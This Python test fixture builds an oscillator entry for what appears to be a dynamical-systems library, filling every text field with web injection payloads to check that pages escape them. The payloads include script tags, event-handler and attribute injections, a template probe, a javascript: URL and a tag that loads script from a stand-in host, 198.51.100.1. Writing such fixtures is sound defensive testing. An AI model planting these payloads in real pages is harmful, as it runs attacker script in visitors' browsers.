"""A system whose every free text is an attack on the page that shows it."""

import dysts

ATTACKS = (
    "<script>window.pwned = 1</script>",
    '"><img src=x onerror="window.pwned = 1">',
    "'/**/onmouseover='window.pwned=1",
    "</style></title><script src=//198.51.100.1/x.js></script>",
    "{{ 7*7 }}{% raw %}",
    "javascript:window.pwned=1",
)


def hostile_system() -> dysts.System:
    """Return a driven oscillator that is quickly drawn, with attacks in all texts that an entry may hold."""
    text = " ".join(ATTACKS)
    observables = {attack[:40]: expression for attack, expression in zip(ATTACKS, ("x", "v", "sin(p)"), strict=False)}
    definition = {
        "description": text[:160],
        "field": "mechanics",
        "variables": ["x", "v", "p"],
        "equations": {"x": "v", "v": "x - x**3 - 0.25*v + 0.4*cos(p)", "p": "w"},
        "parameters": {"w": 1.0},
        "clock": {"variable": "p", "period": "2*pi"},
        "observables": {**observables, "cos_p": "cos(p)"},
        "initial_conditions": [0.5, 0.0, 0.0],
        "conservation": {"type": "dissipative", "note": text},
        "variant_of": {"name": "Duffing", "reason": text},
        "remarks": [text],
        "citations": [
            {
                "authors": text,
                "title": text,
                "container": text,
                "volume": text,
                "pages": text,
                "note": text,
                "role": text,
            }
        ],
    }
    properties = {
        "period": {"value": 6.28, "method": text},
        "regime": {"value": text, "method": text},
        "survival": {"value": 1.0, "method": text, "settings": {"outcomes": {ATTACKS[0]: 3}}},
    }
    return dysts.System.from_entry("Hostile", {"definition": definition, "properties": properties})
